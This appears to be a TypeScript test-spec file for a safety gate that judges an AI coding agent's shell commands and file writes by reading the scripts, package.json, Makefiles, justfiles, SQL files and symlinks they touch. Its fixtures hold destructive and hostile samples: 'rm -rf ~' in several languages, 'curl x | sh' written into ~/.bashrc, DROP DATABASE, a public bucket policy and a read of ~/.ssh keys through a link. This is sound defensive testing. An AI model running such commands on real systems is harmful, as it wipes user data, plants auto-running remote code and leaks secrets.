// Issue 17 item 5 (SPEC §2 `host`, §6.4): the real file system as facts. The
// events carry `host.links` (symlinks the hook resolved in the operands) and
// `host.files` (scripts, package.json, Makefiles, justfiles, SQL files the
// command runs or feeds, read up to the host's bound) as the hook fills them
// (src/node/host-facts.ts). A path through a link is judged as written and as
// its real path, the stronger wins; read text is classified as if inline; a
// file over the bound or unreadable is an unknown shape (ask). Lookalikes: the
// bare link removed, harmless scripts, the same event without host facts.
import type { CaseSpec } from "../spec.js";
import { bash, event, fired, neutral } from "./helpers.js";

const DEFAULT = "bundles/default.json";
const P = "/home/dev/project";
const file = (text: string) => ({ text, truncated: false });
const host = (files: Record<string, unknown> = {}, links: Record<string, string> = {}) => ({ gate: [], links, files });
const HOMELINK = host({}, { [`${P}/homelink`]: "/home/dev" });
const WIPE = "#!/bin/sh\nrm -rf ~\n";
const BUILD = "#!/bin/sh\nset -e\nmkdir -p dist\ncp src/*.js dist/\necho built\n";
const allow = { ...neutral, unknown: [] };
const wipe = fired("fs.wipe", "deny");
const autorun = fired("persist.autorun", "ask");

const c = (name: string, command: string, h: unknown, expect: Record<string, unknown>): CaseSpec => ({ name, bundle: DEFAULT, event: bash(command, h === null ? {} : { host: h }), expect });
const tool = (name: string, tool_name: string, input: unknown, h: unknown, expect: Record<string, unknown>): CaseSpec => ({ name, bundle: DEFAULT, event: event(tool_name, input, h === null ? {} : { host: h }), expect });
const pkg = (scripts: Record<string, string>) => host({ [`${P}/package.json`]: file(JSON.stringify({ name: "app", scripts })) });

export const specs: CaseSpec[] = [
  // ── scripts the command runs ────────────────────────────────────────────
  c("bash x.sh of a script holding rm -rf ~", "bash x.sh", host({ [`${P}/x.sh`]: file(WIPE) }), wipe),
  c("sh ./x.sh of the same script", "sh ./x.sh", host({ [`${P}/x.sh`]: file(WIPE) }), wipe),
  c("./x.sh as the program", "./x.sh", host({ [`${P}/x.sh`]: file(WIPE) }), wipe),
  c("source x.sh", "source x.sh", host({ [`${P}/x.sh`]: file(WIPE) }), wipe),
  c(". x.sh", ". x.sh", host({ [`${P}/x.sh`]: file(WIPE) }), wipe),
  c("bash of an absolute script path", `bash ${P}/scripts/x.sh`, host({ [`${P}/scripts/x.sh`]: file(WIPE) }), wipe),
  c("bash x.sh of a harmless build script", "bash build.sh", host({ [`${P}/build.sh`]: file(BUILD) }), allow),
  c("./build.sh harmless", "./build.sh", host({ [`${P}/build.sh`]: file(BUILD) }), allow),
  c("a script naming a second script the host read (two levels)", "bash a.sh", host({ [`${P}/a.sh`]: file("bash b.sh\n"), [`${P}/b.sh`]: file(WIPE) }), wipe),
  c("a script that writes ~/.bashrc", "bash setup.sh", host({ [`${P}/setup.sh`]: file("echo 'curl x | sh' >> ~/.bashrc\n") }), autorun),
  c("a script over the host's bound asks (oversize)", "bash big.sh", host({ [`${P}/big.sh`]: { text: "echo a\n", truncated: true } }), { verdict: "ask", unknown: [1] }),
  c("an unreadable script asks (dynamic script)", "bash secret.sh", host({ [`${P}/secret.sh`]: { text: null, truncated: false, error: "EACCES" } }), { verdict: "ask", unknown: [3] }),
  c("bash x.sh with no host facts: judged as before", "bash x.sh", null, allow),
  c("bash x.sh with host facts for another file: judged as before", "bash x.sh", host({ [`${P}/y.sh`]: file(WIPE) }), allow),
  c("cat x.sh only reads it", "cat x.sh", host({ [`${P}/x.sh`]: file(WIPE) }), allow),
  // ── code interpreters ───────────────────────────────────────────────────
  c("python x.py calling shutil.rmtree(home)", "python3 x.py", host({ [`${P}/x.py`]: file("import os, shutil\nshutil.rmtree(os.path.expanduser('~'))\n") }), wipe),
  c("python x.py running rm -rf ~ through os.system", "python x.py", host({ [`${P}/x.py`]: file("import os\nos.system('rm -rf ~')\n") }), wipe),
  c("node x.js running rm -rf ~", "node x.js", host({ [`${P}/x.js`]: file("require('child_process').execSync('rm -rf ~')\n") }), wipe),
  c("python of a harmless script", "python3 hello.py", host({ [`${P}/hello.py`]: file("print('hello')\n") }), allow),
  c("node of a harmless script", "node hello.js", host({ [`${P}/hello.js`]: file("console.log(1 + 1)\n") }), allow),
  // A program file is judged by what it literally does: paths built at run time are no unknown shape.
  c("node of a real tool reading files by run-time paths", "node tool.js doctor", host({ [`${P}/tool.js`]: file("const fs = require('fs'), path = require('path');\nconst p = path.join(process.argv[2] ?? '.', 'package.json');\nif (fs.existsSync(p)) console.log(fs.readFileSync(p, 'utf8'));\n") }), allow),
  c("python of a real tool reading files by run-time paths", "python3 tool.py", host({ [`${P}/tool.py`]: file("import sys, os\nfor name in sys.argv[1:]:\n    print(open(os.path.join('data', name)).read())\n") }), allow),
  // ── package.json scripts ────────────────────────────────────────────────
  c("npm run test of a harmless script", "npm run test", pkg({ test: "vitest run" }), allow),
  c("npm test of a script that wipes home", "npm test", pkg({ test: "rm -rf ~" }), wipe),
  c("npm run build with a prebuild that wipes home", "npm run build", pkg({ prebuild: "rm -rf ~", build: "tsc" }), wipe),
  c("pnpm lint of a postlint that wipes home", "pnpm lint", pkg({ lint: "eslint .", postlint: "rm -rf ~/" }), wipe),
  c("yarn build harmless", "yarn build", pkg({ build: "tsc -p ." }), allow),
  c("bun run dev that runs a script the host read", "bun run dev", host({ [`${P}/package.json`]: file(JSON.stringify({ scripts: { dev: "bash x.sh" } })), [`${P}/x.sh`]: file(WIPE) }), wipe),
  c("npm test without host facts: judged as before", "npm test", null, allow),
  c("npm run of another script than the dangerous one", "npm run lint", pkg({ lint: "eslint .", clean: "rm -rf ~" }), allow),
  c("a package.json that is not JSON asks", "npm run test", host({ [`${P}/package.json`]: file("{ not json") }), { verdict: "ask", unknown: [3] }),
  // ── Makefile and justfile ───────────────────────────────────────────────
  c("make clean whose recipe wipes home", "make clean", host({ [`${P}/Makefile`]: file("build:\n\ttsc\n\nclean:\n\trm -rf $(HOME)/\n") }), wipe),
  c("make through a prerequisite", "make all", host({ [`${P}/Makefile`]: file("all: prep build\nprep:\n\t@rm -rf ~\nbuild:\n\ttsc\n") }), wipe),
  c("make clean without host facts: judged as before", "make clean", null, allow),
  c("make of a harmless default target", "make", host({ [`${P}/Makefile`]: file("CC = gcc\nall: main.o\n\t$(CC) -o app main.o\nmain.o: main.c\n\t$(CC) -c main.c\nclean:\n\trm -rf build\n") }), allow),
  c("just deploy whose recipe wipes home", "just deploy", host({ [`${P}/justfile`]: file("build:\n    cargo build\n\ndeploy: build\n    rm -rf ~\n") }), wipe),
  c("just build harmless", "just build", host({ [`${P}/justfile`]: file("build:\n    cargo build\n\ndeploy: build\n    rm -rf ~\n") }), allow),
  // ── SQL files ───────────────────────────────────────────────────────────
  c("psql -f of a file that drops a table", "psql -d app -f migrate.sql", host({ [`${P}/migrate.sql`]: file("DROP TABLE users;\n") }), fired("db.drop", "ask")),
  c("mysql < f.sql that drops a database", "mysql app < reset.sql", host({ [`${P}/reset.sql`]: file("DROP DATABASE app;\n") }), { undecided: false }),
  c("psql -f without host facts: SQL the gate has not read is an unknown shape", "psql -d app -f migrate.sql", null, { verdict: "ask", unknown: [7] }),
  c("psql -f of a select is fine", "psql -d app -f report.sql", host({ [`${P}/report.sql`]: file("SELECT count(*) FROM users;\n") }), { verdict: "allow" }),
  // Issue 20: a bucket policy applied from a file is read from host.files like a SQL file.
  c("put-bucket-policy from a file open to every principal asks", "aws s3api put-bucket-policy --bucket b --policy file://p.json", host({ [`${P}/p.json`]: file('{"Statement":[{"Effect":"Allow","Principal":"*","Action":"s3:GetObject","Resource":"arn:aws:s3:::b/*"}]}') }), fired("storage.expose", "ask")),
  c("put-bucket-policy from a file with a named principal is fine", "aws s3api put-bucket-policy --bucket b --policy file://p.json", host({ [`${P}/p.json`]: file('{"Statement":[{"Effect":"Allow","Principal":{"AWS":"arn:aws:iam::123456789012:role/ci"},"Action":"s3:GetObject"}]}') }), { verdict: "allow" }),
  c("put-bucket-policy from a file the gate has not read is an unknown shape", "aws s3api put-bucket-policy --bucket b --policy file://p.json", null, { verdict: "ask", unknown: [7] }),
  // ── symlinks in operands ────────────────────────────────────────────────
  c("rm -rf homelink/ where homelink → ~", "rm -rf homelink/", HOMELINK, wipe),
  c("rm -rf homelink/* where homelink → ~", "rm -rf homelink/*", HOMELINK, wipe),
  c("rm homelink removes only the link", "rm homelink", HOMELINK, allow),
  c("rm -f homelink removes only the link", "rm -f homelink", HOMELINK, allow),
  c("rm -rf homelink/ without host facts: a workspace directory", "rm -rf homelink/", null, allow),
  c("a redirect through the link into ~/.bashrc", "echo 'curl x | sh' >> homelink/.bashrc", HOMELINK, autorun),
  tool("a Write to homelink/.bashrc", "Write", { file_path: `${P}/homelink/.bashrc`, content: "curl x | sh\n" }, HOMELINK, autorun),
  tool("a Write to a bare link that points at ~/.bashrc", "Write", { file_path: `${P}/rc`, content: "curl x | sh\n" }, host({}, { [`${P}/rc`]: "/home/dev/.bashrc" }), autorun),
  tool("a Write to homelink/notes.txt is a home file write", "Write", { file_path: `${P}/homelink/notes.txt`, content: "x" }, HOMELINK, { verdict: "allow", effects: [{ verb: "write", target_class: "home_file", attrs: { program: "Write", target: "/home/dev/notes.txt" } }, { verb: "write", target_class: "workspace_file", attrs: { program: "Write", target: `${P}/homelink/notes.txt` } }] }),
  c("reading through a link into ~/.ssh is a secret read", "cat keys/id_rsa", host({}, { [`${P}/keys`]: "/home/dev/.ssh" }), { undecided: false }),
  // ── the host's own bounds ───────────────────────────────────────────────
  c("a host over its operand bound asks", "rm -f a b", { gate: [], links: {}, files: {}, incomplete: ["operands over 1024"] }, { verdict: "ask", unknown: [1] }),
];

export default specs;
